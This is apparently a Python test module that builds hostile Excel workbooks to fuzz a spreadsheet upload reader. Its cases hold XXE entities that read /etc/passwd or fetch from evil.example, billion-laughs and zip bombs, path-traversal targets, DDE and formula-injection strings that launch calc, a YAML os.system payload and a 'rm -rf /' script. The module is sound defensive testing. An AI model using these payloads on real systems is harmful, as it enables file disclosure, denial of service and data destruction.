"""Hostile workbooks for the real upload: those of the reader's tests, more of every kind, mutations by a seed."""
# ruff: noqa: E501 - a part of a package stands on one line

import io
import random
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from typing import NamedTuple

from tests.trust.hostile.edition import goal_workbook, plan_workbook
from tests.trust.hostile.mutations import mutated
from tests.workbook.hostile import SHEET2, changed, files, good, with_parts
from tests.workbook.rawbook import MAIN, OFFICE, pack, parts, rows_xml, worksheet
from tests.workbook.tables import GOOD, sheets_of, workbook

SEED = 20261130
SHEET1, STYLES, BOOK, RELS = (
    "xl/worksheets/sheet1.xml",
    "xl/styles.xml",
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
)
TYPES = "[Content_Types].xml"


class File(NamedTuple):
    """One file, made when it is asked for."""

    name: str
    make: Callable[[], bytes]


def every_file(mutations: int) -> Iterator[File]:
    """All that are written by hand, and so many mutations; the same in every run."""
    yield from crafted()
    seeds = (workbook(GOOD), with_shared_strings(), goal_workbook(1), plan_workbook(2))
    for number in range(mutations):
        yield File(f"mutation {number}", lambda number=number: mutated(seeds, random.Random(SEED + number))[1])  # type: ignore[misc]


def crafted() -> Iterator[File]:
    for name, make, _ in files():
        yield File(name, make)
    for kind in (_values, _types, _markup, _entities, _strings, _relations, _links, _floods, _members, _zips, _renamed):
        yield from kind()


def _value(written: str, attributes: str = "") -> bytes:
    """The observation's value as this cell."""
    old = "<c r='E2' t='inlineStr'><is><t xml:space='preserve'>43,5</t></is></c>"
    return changed(SHEET2, lambda xml: _put(xml, old, f"<c r='E2'{attributes}>{written}</c>"))


def _put(xml: str, old: str, new: str) -> str:
    assert old in xml, old
    return xml.replace(old, new)


def _values() -> Iterator[File]:
    odd: tuple[str, ...] = (
        "NaN",
        "nan",
        "INF",
        "-INF",
        "inf",
        "Infinity",
        "1e999",
        "-1e999",
        "1E+308",
        "4.9e-324",
        "1e-400",
        "0x1F",
    )
    odd += (
        "1_000",
        "１２",
        "١٢",
        "1e",
        "--1",
        "+-1",
        "1.2.3",
        "",
        " ",
        "true",
        "9" * 400,
        "0" * 70_000,
        "1;2",
        "²",
        "∞",
    )
    for number in odd:
        yield File(f"the number «{number[:12]}»", lambda n=number: _value(f"<v>{n}</v>"))  # type: ignore[misc]
    for serial in ("-1", "0", "60", "2958466", "1e12", "99999999999", "43831.999999999", "-0.5"):
        yield File(f"the day {serial}", lambda n=serial: _value(f"<v>{n}</v>", " s='2'"))  # type: ignore[misc]
        yield File(f"the day {serial} of 1904", lambda n=serial: _of_1904(n))  # type: ignore[misc]
    formulas: tuple[str, ...] = (
        "1+1",
        "cmd|'/c calc'!A0",
        'HYPERLINK("https://evil.example","x")',
        'WEBSERVICE("https://evil.example")',
    )
    formulas += ("[1]Sheet1!A1", 'INDIRECT("A"&amp;1)', "A1" * 5000, "(" * 3000, "Спостереження!E2")
    for formula in formulas:
        for saved in ("", "<v>43</v>", "<v>x</v>"):
            yield File(f"formula {formula[:20]} {saved}", lambda f=formula, s=saved: _value(f"<f>{f}</f>{s}"))  # type: ignore[misc]
    for kind in (
        "t='shared' si='0'",
        "t='shared' si='99999' ref='A1:XFD1048576'",
        "t='array' ref='E2:E9'",
        "t='dataTable' r1='A1'",
    ):
        yield File(f"formula {kind}", lambda k=kind: _value(f"<f {k}>1</f><v>1</v>"))  # type: ignore[misc]


def _of_1904(serial: str) -> bytes:
    rows = {title: worksheet(rows_xml(table)) for title, table in sheets_of(GOOD).items()}
    book = parts(rows, date1904=True)
    return pack(book | {SHEET2: str(book[SHEET2]).replace("<c r='B2'><v>2022</v>", f"<c r='B2' s='2'><v>{serial}</v>")})


def _types() -> Iterator[File]:
    for kind in ("b", "e", "d", "str", "s", "n", "inlineStr", "", "N", "zzz", "x" * 5000):
        for written in (
            "<v>1</v>",
            "<v>-1</v>",
            "<v/>",
            "<is><t>1</t></is>",
            "<v>#REF!</v>",
            "<v>2022-13-45</v>",
            "<v>1</v><v>2</v>",
        ):
            yield File(f"type {kind[:9]} {written}", lambda k=kind, w=written: _value(w, f" t='{k}'"))  # type: ignore[misc]
    for style in ("-1", "1e3", "4294967296", "x", "0.5"):
        yield File(f"style {style}", lambda s=style: _value("<v>1</v>", f" s='{s}'"))  # type: ignore[misc]


def _markup() -> Iterator[File]:
    more: dict[str, Callable[[str], str | bytes]] = {
        "10,000 attributes": lambda x: x.replace("<sheetData>", "<x " + " ".join(f"a{n}='1'" for n in range(10_000)) + "/><sheetData>"),
        "an attribute of a megabyte": lambda x: x.replace("<sheetData>", f"<x a='{'x' * 2**20}'/><sheetData>"),
        "a name of a megabyte": lambda x: x.replace("<sheetData>", f"<{'x' * 2**20}/><sheetData>"),
        "a comment of a megabyte": lambda x: x.replace("<sheetData>", f"<!--{'x' * 2**20}--><sheetData>"),
        "200,000 deep": lambda x: x.replace("</worksheet>", "<x>" * 200_000 + "</x>" * 200_000 + "</worksheet>"),
        "cells in cells": lambda x: x.replace("</sheetData>", "<row>" + "<c>" * 5000 + "</c>" * 5000 + "</row></sheetData>"),
        "rows in rows": lambda x: x.replace("</sheetData>", "<row>" * 5000 + "</row>" * 5000 + "</sheetData>"),
        "sheets in sheets": lambda x: x.replace("<sheetData>", "<sheetData>" * 50).replace("</sheetData>", "</sheetData>" * 50),
        "texts in texts": lambda x: x.replace("<t xml:space='preserve'>43,5</t>", "<t>" * 999 + "43,5" + "</t>" * 999),
        "CDATA": lambda x: x.replace("43,5", "<![CDATA[43,5]]>"),
        "an attribute twice": lambda x: x.replace("<row r='2'>", "<row r='2' r='3'>"),
        "a foreign namespace": lambda x: x.replace(MAIN, "urn:x"),
        "no namespace": lambda x: x.replace(f" xmlns='{MAIN}'", ""),
        "5,000 namespaces": lambda x: x.replace("<sheetData>", "<x " + " ".join(f"xmlns:n{n}='urn:{n}'" for n in range(5000)) + "/><sheetData>"),
        "an unbound prefix": lambda x: x.replace("<sheetData>", "<y:x/><sheetData>"),
        "XML 1.1": lambda x: "<?xml version='1.1'?>" + x,
        "an instruction": lambda x: "<?xml version='1.0'?><?xml-stylesheet href='https://evil.example/x.xsl'?>" + x,
        "UTF-7": lambda x: "<?xml version='1.0' encoding='utf-7'?>" + x,
        "UTF-32": lambda x: ("<?xml version='1.0' encoding='utf-32'?>" + x).encode("utf-32"),
        "UTF-16 that says UTF-8": lambda x: ("<?xml version='1.0' encoding='utf-8'?>" + x).encode("utf-16"),
        "UTF-16 without a mark": lambda x: ("<?xml version='1.0' encoding='utf-16'?>" + x).encode("utf-16-be"),
        "blanks of ten megabytes": lambda x: x.replace("<sheetData>", " " * 10 * 2**20 + "<sheetData>"),
        "nothing but a root": lambda _: f"<worksheet xmlns='{MAIN}'/>",
        "another root": lambda _: f"<workbook xmlns='{MAIN}'/>",
        "a picture in its place": lambda _: b"\x89PNG\r\n\x1a\n" + bytes(2000),
        "a page in its place": lambda _: "<!doctype html><html><body>x",
        "no end": lambda x: x.partition("</sheetData>")[0],
    }  # fmt: skip
    for part in (SHEET1, SHEET2):
        for name, change in more.items():
            yield File(f"{name} in {part[-10:]}", lambda p=part, c=change: changed(p, c))  # type: ignore[misc]
    for part in (STYLES, BOOK, RELS, TYPES, "_rels/.rels"):
        for name, content in (("empty", ""), ("text", "x"), ("another root", "<a/>"), ("bytes", b"\xff\xfe\x00")):
            yield File(f"{part}: {name}", lambda p=part, c=content: changed(p, lambda _: c))  # type: ignore[misc]


def _entities() -> Iterator[File]:
    laughs = "".join(f"<!ENTITY l{n} '{f'&l{n - 1};' * 10}'>" for n in range(1, 12))
    kinds = {
        "a billion laughs": f"<!DOCTYPE x [<!ENTITY l0 'ha'>{laughs}]>",
        "quadratic": f"<!DOCTYPE x [<!ENTITY q '{'q' * 60_000}'>]>",
        "outside": "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>",
        "of the net": "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/x'>]>",
        "a parameter": "<!DOCTYPE x [<!ENTITY % p SYSTEM 'https://evil.example/x.dtd'> %p;]>",
        "itself": "<!DOCTYPE x [<!ENTITY a '&b;'><!ENTITY b '&a;'>]>",
        "public": "<!DOCTYPE x PUBLIC '-//x' 'https://evil.example/x.dtd'>",
        "attributes": "<!DOCTYPE x [<!ATTLIST c r CDATA 'A1'>]>",
        "no more than a name": "<!DOCTYPE x>",
    }
    for name, words in kinds.items():
        for part in (SHEET2, BOOK, TYPES, RELS):
            yield File(f"entities, {name}, in {part}", lambda p=part, w=words: changed(p, lambda x: w + x))  # type: ignore[misc]
    for reference in ("&#0;", "&#xD800;", "&#xFFFFFFFF;", "&#x110000;", "&none;", "&#-1;", "&"):
        yield File(f"reference {reference}", lambda r=reference: changed(SHEET2, lambda x: x.replace("43,5", r)))  # type: ignore[misc]


def with_shared_strings(
    table: str = "<si><t>1.1.1</t></si>", cell: str = "<c r='A2' t='s'><v>0</v></c>", head: str = ""
) -> bytes:
    rows = {title: worksheet(rows_xml(found)) for title, found in sheets_of(GOOD).items()}
    book = parts(rows, strings=f"<sst xmlns='{MAIN}'{head}>{table}</sst>")
    old = "<c r='A2' t='inlineStr'><is><t xml:space='preserve'>1.1.1</t></is></c>"
    return pack(book | {SHEET2: _put(str(book[SHEET2]), old, cell)})


def _strings() -> Iterator[File]:
    for index in ("-1", "1", "1e0", "0.5", "", "x", "4294967296", " 0 ", "00", "９"):
        yield File(f"string no {index}", lambda i=index: with_shared_strings(cell=f"<c r='A2' t='s'><v>{i}</v></c>"))  # type: ignore[misc]
    tables = {
        "no strings": "",
        "a string without text": "<si/>",
        "runs": "<si>" + "<r><t>1</t></r>" * 5000 + "</si>",
        "reading aids": "<si><t>1.1.1</t><rPh sb='0' eb='1'><t>x</t></rPh></si>",
        "strings in strings": "<si>" * 900 + "<t>1.1.1</t>" + "</si>" * 900,
        "a string of five megabytes": f"<si><t>{'я' * 2_500_000}</t></si>",
        "escapes": "<si><t>_x0000__x0009__xFFFF__xD83D_1.1.1</t></si>",
        "cut off": "<si><t>1.1.1",
    }
    for name, table in tables.items():
        yield File(name, lambda t=table: with_shared_strings(t))  # type: ignore[misc]
    yield File("a count that lies", lambda: with_shared_strings(head=" count='4294967295' uniqueCount='-5'"))


def _swapped(old: str, new: str, xml: str) -> str:
    return xml.replace(old, new)


def _relations() -> Iterator[File]:
    targets: tuple[str, ...] = (
        "workbook.xml",
        "_rels/workbook.xml.rels",
        "worksheets/sheet1.xml",
        "../[Content_Types].xml",
        "styles.xml",
        "",
    )
    targets += (
        "../../../etc/passwd",
        "/etc/passwd",
        "C:\\x",
        "//evil.example/x",
        "https://evil.example/x",
        "#",
        "%2e%2e/x",
        "x" * 5000,
    )
    targets += (
        "worksheets",
        ".",
        "..",
        "worksheets/../worksheets/./sheet2.xml",
        "worksheets\\sheet2.xml",
        "worksheets/sheet2.xml?x#y",
    )
    for target in targets:
        yield File(
            f"sheet 2 is {target[:30]}", partial(changed, RELS, partial(_swapped, "worksheets/sheet2.xml", target))
        )
        yield File(f"styles are {target[:30]}", lambda t=target: changed(RELS, lambda x: x.replace("styles.xml", t)))  # type: ignore[misc]
    yield File(
        "a book that is itself", lambda: changed("_rels/.rels", lambda x: x.replace("xl/workbook.xml", "_rels/.rels"))
    )
    yield File("one id for all", lambda: changed(RELS, lambda x: x.replace("rId2", "rId1")))
    yield File(
        "30,000 relations",
        lambda: changed(
            RELS,
            lambda x: x.replace(
                "</Relationships>", f"<Relationship Id='x' Type='{OFFICE}/x' Target='x'/>" * 30_000 + "</Relationships>"
            ),
        ),
    )
    for state in ("hidden", "veryHidden", "x"):
        yield File(
            f"a sheet {state}", partial(changed, BOOK, partial(_swapped, "sheetId='2'", f"sheetId='2' state='{state}'"))
        )
    for name in ("", "x" * 40_000, "Показники", "'!$A$1", "../x", "\u202eкинжонсереП"):
        yield File(f"a sheet called {name[:12]}", lambda n=name: changed(BOOK, lambda x: x.replace("Спостереження", n)))  # type: ignore[misc]


def _links() -> Iterator[File]:
    outside = f"<externalLink xmlns='{MAIN}'><externalBook r:id='rId1' xmlns:r='{OFFICE}'/></externalLink>"
    dde = f"<externalLink xmlns='{MAIN}'><ddeLink ddeService='cmd' ddeTopic='/c calc'/></externalLink>"
    rels = f"<Relationships xmlns='x'><Relationship Id='rId1' Type='{OFFICE}/externalLinkPath' Target='file:///etc/passwd' TargetMode='External'/></Relationships>"
    extras: dict[str, dict[str, str | bytes]] = {
        "a link to another book": {"xl/externalLinks/externalLink1.xml": outside, "xl/externalLinks/_rels/externalLink1.xml.rels": rels},
        "DDE": {"xl/externalLinks/externalLink1.xml": dde},
        "connections": {"xl/connections.xml": f"<connections xmlns='{MAIN}'><connection id='1' type='5'><dbPr connection='x' command='DROP'/></connection></connections>"},
        "a query": {"customXml/item1.xml": "<DataMashup>AAAA</DataMashup>"},
        "comments": {"xl/comments1.xml": f"<comments xmlns='{MAIN}'><commentList>{'<comment ref=' + chr(39) + 'A1' + chr(39) + '><text><t>x</t></text></comment>'}</commentList></comments>"},
        "many comments": {"xl/comments1.xml": f"<comments xmlns='{MAIN}'><commentList>" + "<comment ref='A1'><text><t>x</t></text></comment>" * 40_000 + "</commentList></comments>"},
        "drawings that are no XML": {"xl/drawings/vmlDrawing1.vml": "<xml><br><v:shape"},
        "a picture": {"xl/media/image1.png": b"\x89PNG\r\n\x1a\n" + bytes(500_000)},
        "a picture with a program": {"xl/media/image1.svg": "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"},
        "an object": {"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5000)},
        "a book in the book": {"xl/embeddings/book.xlsx": workbook(GOOD)},
        "ActiveX": {"xl/activeX/activeX1.xml": "<a/>", "xl/activeX/activeX1.bin": b"x"},
        "a macro of another name": {"xl/VBAPROJECT.BIN": b"x"},
        "macro sheets of the world": {"xl/intlMacrosheets/sheet1.xml": "<a/>"},
        "a ribbon": {"customUI/customUI.xml": "<customUI onLoad='x'/>"},
        "a signature": {"_xmlsignatures/sig1.xml": "<Signature/>"},
        "printer settings": {"xl/printerSettings/printerSettings1.bin": bytes(3000)},
        "web extensions": {"xl/webextensions/webextension1.xml": "<x/>"},
        "threaded comments": {"xl/threadedComments/threadedComment1.xml": "<x/>", "xl/persons/person.xml": "<x/>"},
        "a pivot": {"xl/pivotCache/pivotCacheRecords1.xml": "<x>" + "<r/>" * 200_000 + "</x>"},
    }  # fmt: skip
    for name, more in extras.items():
        yield File(name, lambda m=more: with_parts(**m))  # type: ignore[misc]


def _floods() -> Iterator[File]:
    inside: dict[str, Callable[[], str]] = {
        "300,000 merged cells that are one": lambda: (
            "<mergeCells>" + "<mergeCell ref='A8:B9'/>" * 300_000 + "</mergeCells>"
        ),
        "everything merged": lambda: "<mergeCells><mergeCell ref='A1:XFD1048576'/></mergeCells>",
        "50,000 conditional formats": lambda: (
            "<conditionalFormatting sqref='A1'><cfRule type='x' priority='1'/></conditionalFormatting>" * 50_000
        ),
        "50,000 validations": lambda: (
            "<dataValidations>" + "<dataValidation sqref='A1:XFD1048576'/>" * 50_000 + "</dataValidations>"
        ),
        "50,000 hyperlinks": lambda: "<hyperlinks>" + "<hyperlink ref='A1' location='x'/>" * 50_000 + "</hyperlinks>",
        "50,000 columns": lambda: "<cols>" + "<col min='1' max='16384' hidden='1'/>" * 50_000 + "</cols>",
        "a filter of everything": lambda: "<autoFilter ref='A1:XFD1048576'/>",
    }
    for name, make in inside.items():
        yield File(name, lambda m=make: changed(SHEET2, lambda x: x.replace("</worksheet>", m() + "</worksheet>")))  # type: ignore[misc]
    yield File(
        "a million rows with a number",
        lambda: changed(
            SHEET2,
            lambda x: x.replace(
                "</sheetData>",
                "".join(f"<row r='{n}'><c><v>1</v></c></row>" for n in range(3, 1_000_003)) + "</sheetData>",
            ),
        ),
    )
    yield File(
        "the widest row",
        lambda: changed(
            SHEET2,
            lambda x: x.replace("</sheetData>", "<row r='3'>" + "<c><v>1</v></c>" * 16_384 + "</row></sheetData>"),
        ),
    )
    yield File(
        "17,000 cells in a row",
        lambda: changed(
            SHEET2,
            lambda x: x.replace("</sheetData>", "<row r='3'>" + "<c><v>1</v></c>" * 17_000 + "</row></sheetData>"),
        ),
    )
    yield File(
        "20,000 observations of a code that is none", lambda: workbook(GOOD + "9.9.9 | 2022 | | | 1 | x\n" * 20_000)
    )
    yield File("20,000 wrong rows", lambda: workbook(GOOD + "1.1.1 | x | y | z | так | \n" * 20_000))
    yield File(
        "5,000 indicators",
        lambda: workbook(
            GOOD.replace(
                "# Спостереження",
                "".join(f"1.1.{n} | П{n} | % | зростання | 2021 | 40 | 50 | 70 | | У | Звіт\n" for n in range(2, 5002))
                + "# Спостереження",
            )
        ),
    )
    yield File(
        "40,000 formats",
        lambda: changed(
            STYLES,
            lambda x: x.replace(
                "<numFmts>",
                "<numFmts>"
                + "".join(f"<numFmt numFmtId='{n}' formatCode='0.{'0' * 200}'/>" for n in range(200, 40_200)),
            ),
        ),
    )
    yield File("a format of 65 KB", lambda: changed(STYLES, lambda x: x.replace("0.0%", "#,##0;[Red]" * 6000)))
    yield File("a format that is open", lambda: changed(STYLES, lambda x: x.replace("0.0%", "[" * 5000 + "\\" * 999)))
    yield File(
        "40,000 names",
        lambda: changed(
            BOOK,
            lambda x: x.replace(
                "</workbook>",
                "<definedNames>" + "<definedName name='a'>b</definedName>" * 40_000 + "</definedNames></workbook>",
            ),
        ),
    )


def _members() -> Iterator[File]:
    names: tuple[str, ...] = (
        "..\\evil.xml",
        "xl\\..\\..\\x",
        "./x",
        "xl/./x",
        "xl//x",
        "/",
        "..",
        "x/",
        "\\\\host\\x",
        "C:\\x",
        "CON",
        "x\u202ey",
        "\u200b",
    )
    names += (
        "XL/WORKSHEETS/SHEET2.XML",
        "xl/worksheets/sheet2.xml ",
        "xl/worksheets/sheet2.xml.",
        "x" * 60_000,
        "é",
        "e\u0301",
        "~",
        "-rf",
        "a\nb",
        "%2e%2e/x",
    )
    for name in names:
        yield File(f"member {name[:20]!r}", lambda n=name: with_parts(**{n: "<a/>"}))  # type: ignore[misc]


def _zips() -> Iterator[File]:
    whole = workbook(GOOD)
    yield File("a zip of the workbook", lambda: pack({"1.1.xlsx": whole}))
    yield File("a zip of a zip of a bomb", lambda: pack({"a.zip": pack({"b": bytes(50 * 2**20)})}))
    yield File("two workbooks end to end", lambda: whole + whole)
    yield File("bytes behind", lambda: whole + bytes(70_000))
    yield File("a comment of 65 KB with the sign of an end", lambda: _commented(whole, b"PK\x05\x06" + b"x" * 60_000))
    yield File(
        "a bomb in a sheet",
        lambda: changed(SHEET2, lambda x: x.replace("</worksheet>", "<x/>" * 10_000_000 + "</worksheet>")),
    )
    yield File("a bomb of text", lambda: changed(SHEET2, lambda x: x.replace("43,5", "4" * 60_000_000)))
    for share in range(1, 20):
        yield File(f"{share * 5} % of it", lambda s=share: whole[: len(whole) * s // 20])  # type: ignore[misc]
    for field in range(4, 22, 2):
        yield File(f"field {field} of the end", lambda f=field: _at(whole, b"PK\x05\x06", f))  # type: ignore[misc]
    for field in range(4, 46, 2):
        yield File(f"field {field} of the directory", lambda f=field: _at(whole, b"PK\x01\x02", f))  # type: ignore[misc]
    for field in range(4, 30, 2):
        yield File(f"field {field} of a member", lambda f=field: _at(whole, b"PK\x03\x04", f))  # type: ignore[misc]


def _commented(whole: bytes, comment: bytes) -> bytes:
    out = io.BytesIO(whole)
    with zipfile.ZipFile(out, "a") as archive:
        archive.comment = comment
    return out.getvalue()


def _at(whole: bytes, sign: bytes, field: int) -> bytes:
    at = whole.rindex(sign) + field
    return whole[:at] + b"\xff\xff" + whole[at + 2 :]


def _renamed() -> Iterator[File]:
    rich = "{\\rtf1 x}"
    kinds: dict[str, bytes] = {
        "a script": b"#!/bin/sh\nrm -rf /\n",
        "a program": b"MZ" + bytes(900),
        "ELF": b"\x7fELF" + bytes(900),
        "JSON": b'{"a": 1}',
        "YAML": b"a: !!python/object/apply:os.system ['x']\n",
        "a pickle": b"\x80\x04\x95\x05\x00\x00\x00\x00\x00\x00\x00}\x94.",
        "rich text": rich.encode(),
        "SQLite": b"SQLite format 3\0" + bytes(900),
        "parquet": b"PAR1" + bytes(900) + b"PAR1",
        "SYLK": b"ID;PWXL;N;E\nC;X1;Y1;K1\nE\n",
        "DIF": b"TABLE\n0,1\n",
        "dBase": b"\x03\x7a\x01\x01" + bytes(900),
        "Lotus": b"\x00\x00\x02\x00\x06\x04" + bytes(900),
        "numbers": pack({"Index/Document.iwa": b"x"}),
        "a jar": pack({"META-INF/MANIFEST.MF": "x"}),
        "epub": pack({"mimetype": "application/epub+zip"}),
        "rar": b"Rar!\x1a\x07\x00" + bytes(900),
        "a tar": b"a.txt" + bytes(252) + b"ustar" + bytes(900),
        "one byte": b"P",
        "only newlines": b"\n" * 9000,
        "noise": random.Random(SEED).randbytes(90_000),
        "an svg": b"<svg xmlns='http://www.w3.org/2000/svg'/>",
        "a mail": b"From: x\nSubject: y\n\nz",
    }
    for name, data in kinds.items():
        yield File(name, lambda d=data: d)  # type: ignore[misc]


__all__ = ["File", "crafted", "every_file", "good"]
